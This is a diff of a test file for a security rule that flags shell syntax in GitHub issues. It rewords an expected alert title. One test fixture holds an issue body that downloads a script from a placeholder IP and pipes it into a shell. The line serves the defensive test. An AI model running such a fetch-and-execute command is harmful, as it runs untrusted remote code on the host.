@@ -81,7 +81,7 @@ export const tests = [
     name: "the body of an edited issue of unknown origin",
     expectedResult: true,
     log: { ...issueOpened, action: "edited", issue: { state: "open", body: "wget http://192.0.2.9/x | sh" } },
-    expectedTitle: "Shell syntax in issue [<UNKNOWN_ISSUE_NUMBER>] of [harbourline/widgets] by [<UNKNOWN_USER>]",
+    expectedTitle: "Shell syntax in issue of an unknown number of [harbourline/widgets] by an unknown user",
     expectedReference: "https://github.com/harbourline/widgets",
   }),
   new RuleTest({
